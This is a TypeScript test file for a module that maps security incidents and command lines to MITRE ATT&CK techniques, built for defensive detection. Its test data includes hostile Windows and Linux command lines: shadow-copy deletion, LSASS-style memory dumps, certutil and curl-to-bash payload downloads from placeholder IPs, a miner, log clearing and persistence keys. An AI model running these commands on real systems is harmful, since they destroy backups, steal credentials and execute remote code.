import { ATTACK_DATA_DIR, attackCatalog, loadAttackCatalog, mapAttack, resolveTactic, resolveTechnique, sentinelTacticShortname } from '../../../../src/integrations/ai/local';
import { parseCsv } from '../../../../src/integrations/ai/local/attackCatalog';
import type { TextItem } from '../../../../src/integrations/ai/local/incidentTexts';

const cmd = (text: string, source = 'Process entity x (commandLine)'): TextItem => ({ kind: 'commandLine', source, text });

describe('ATT&CK catalog', () => {
  it('loads the copy shipped in the repository', () => {
    expect(ATTACK_DATA_DIR).toMatch(/subgraphs[\\/]analysis[\\/]data[\\/]mitre$/);
    const catalog = attackCatalog();
    expect(catalog.tactics).toHaveLength(14);
    expect(catalog.techniques.size).toBe(835);
    expect([...catalog.techniques.values()].filter((t) => !t.revoked && !t.deprecated)).toHaveLength(691);
    expect(catalog.techniques.get('T1059.001')).toMatchObject({ name: 'PowerShell', tactics: ['execution'], isSubtechnique: true });
    expect(loadAttackCatalog().tacticById.get('TA0040')?.name).toBe('Impact');
  });

  it('parses quoted CSV fields', () => {
    expect(parseCsv('a,b\n"x, y","say ""hi"""\r\n1,\n')).toEqual([['a', 'b'], ['x, y', 'say "hi"'], ['1', '']]);
  });
});

describe('tactic and technique resolution', () => {
  it.each([
    ['InitialAccess', 'TA0001'],
    ['CredentialAccess', 'TA0006'],
    ['CommandAndControl', 'TA0011'],
    ['PrivilegeEscalation', 'TA0004'],
    ['ResourceDevelopment', 'TA0042'],
    ['Initial Access', 'TA0001'],
    ['defense-evasion', 'TA0005'],
    ['TA0040', 'TA0040'],
  ])('maps %s to %s', (name, id) => {
    expect(resolveTactic(name).tactic?.id).toBe(id);
  });

  it('ignores PreAttack and ICS tactics with a reason', () => {
    expect(resolveTactic('PreAttack')).toEqual({ note: expect.stringMatching(/PRE-ATT&CK.*no single Enterprise tactic/) });
    expect(resolveTactic('ImpairProcessControl').note).toMatch(/ICS/);
    expect(sentinelTacticShortname('LateralMovement')).toBe('lateral-movement');
  });

  it('replaces revoked ids with their successor, drops deprecated and unknown ones', () => {
    expect(resolveTechnique('T1086')).toMatchObject({ technique: { id: 'T1059.001' }, note: expect.stringMatching(/revoked.*successor T1059.001/) });
    expect(resolveTechnique('T1193').technique?.id).toBe('T1566.001');
    expect(resolveTechnique('T1064')).toEqual({ note: expect.stringMatching(/deprecated/) });
    expect(resolveTechnique('T9999').note).toMatch(/not in ATT&CK/);
    expect(resolveTechnique('powershell').note).toMatch(/not an ATT&CK technique id/);
    expect(resolveTechnique('t1059.001').technique?.name).toBe('PowerShell');
  });
});

describe('mapAttack', () => {
  it('maps incident tactics and alert techniques, placing each technique under its alert tactic', () => {
    const mapping = mapAttack({
      tactics: ['InitialAccess', 'PreAttack'],
      alerts: [{ displayName: 'Unfamiliar sign-in properties', tactics: ['InitialAccess'], techniques: ['T1078', 'T1078.004'] }],
    });
    expect(mapping.tactics.map((t) => t.id)).toEqual(['TA0001']);
    expect(mapping.techniques).toEqual([expect.objectContaining({ id: 'T1078.004', name: 'Cloud Accounts', tactic: 'Initial Access', origin: 'alert', evidence: 'reported by alert "Unfamiliar sign-in properties"' })]);
    expect(mapping.notes).toEqual([expect.stringMatching(/PreAttack/)]);
  });

  it.each([
    ['powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', ['T1059.001', 'T1027.010', 'T1564.003']],
    ['vssadmin.exe delete shadows /all /quiet', ['T1490']],
    ['rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\d.bin full', ['T1218.011', 'T1003.001']],
    ['regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll', ['T1218.010', 'T1105']],
    ['schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon', ['T1053.005']],
    ['reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\u.exe', ['T1547.001']],
    ['reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger', ['T1546.008']],
    ['certutil -urlcache -split -f http://198.51.100.1/p.b64 p.b64 && certutil -decode p.b64 p.exe', ['T1105', 'T1140']],
    ['net user adm1nistrator P@ss /add', ['T1136.001', 'T1036.010']],
    ['wevtutil cl Security', ['T1070.001']],
    ['/bin/bash -c curl -fsSL http://203.0.113.9/x.sh | bash', ['T1059.004', 'T1105']],
    ['/tmp/kworkerds -o stratum+tcp://192.0.2.4:3333', ['T1496.001']],
    ['netsh advfirewall set allprofiles state off', ['T1562.004']],
    ['wmic process call create "calc.exe"', ['T1047']],
  ])('infers techniques from the command line %s', (commandLine, expected) => {
    const ids = mapAttack({ texts: [cmd(commandLine)] }).techniques.map((t) => t.id);
    expect(ids).toEqual(expect.arrayContaining(expected));
  });

  it('quotes the evidence that triggered an inferred technique', () => {
    const [technique] = mapAttack({ texts: [cmd('vssadmin.exe delete shadows /all /quiet', 'Process entity vssadmin.exe (commandLine)')] }).techniques;
    expect(technique).toMatchObject({ id: 'T1490', tactic: 'Impact', origin: 'inferred', observed: true });
    expect(technique?.evidence).toMatch(/^backups or shadow copies destroyed: Process entity vssadmin.exe \(commandLine\): "vssadmin.exe delete shadows/);
  });

  it('needs enough failed logons for brute force and ignores negated prose', () => {
    const prose = (text: string): TextItem => ({ kind: 'alert', source: 'alert "x"', text });
    expect(mapAttack({ texts: [prose('Several Remote Desktop login attempts were detected from FreeRDP (198.51.100.9), none of them succeeded. Event logs analysis shows that in the last 60 minutes there were 517 failed attempts.')] }).techniques.map((t) => t.id)).toContain('T1110.001');
    expect(mapAttack({ texts: [prose('3 failed logon attempts for the user')] }).techniques).toEqual([]);
    expect(mapAttack({ texts: [{ kind: 'comment', source: 'comment 1', text: 'No ransomware was found on the host.' }] }).techniques).toEqual([]);
  });

  it('keeps the sub-technique and drops its parent, and orders techniques by kill chain', () => {
    const mapping = mapAttack({
      alerts: [
        { displayName: 'Backups deleted', tactics: ['Impact'], techniques: ['T1490'] },
        { displayName: 'PowerShell', tactics: ['Execution'], techniques: ['T1059', 'T1059.001'] },
      ],
    });
    expect(mapping.techniques.map((t) => t.id)).toEqual(['T1059.001', 'T1490']);
    expect(mapping.tactics.map((t) => t.name)).toEqual(['Execution', 'Impact']);
  });

  it('accepts observations made elsewhere (mail evidence)', () => {
    const mapping = mapAttack({ observations: [{ technique: 'T1566.002', tactic: 'initial-access', evidence: 'mail "x" carried https://evil.example' }] });
    expect(mapping.techniques[0]).toMatchObject({ id: 'T1566.002', evidence: 'mail "x" carried https://evil.example', observed: true });
  });
});
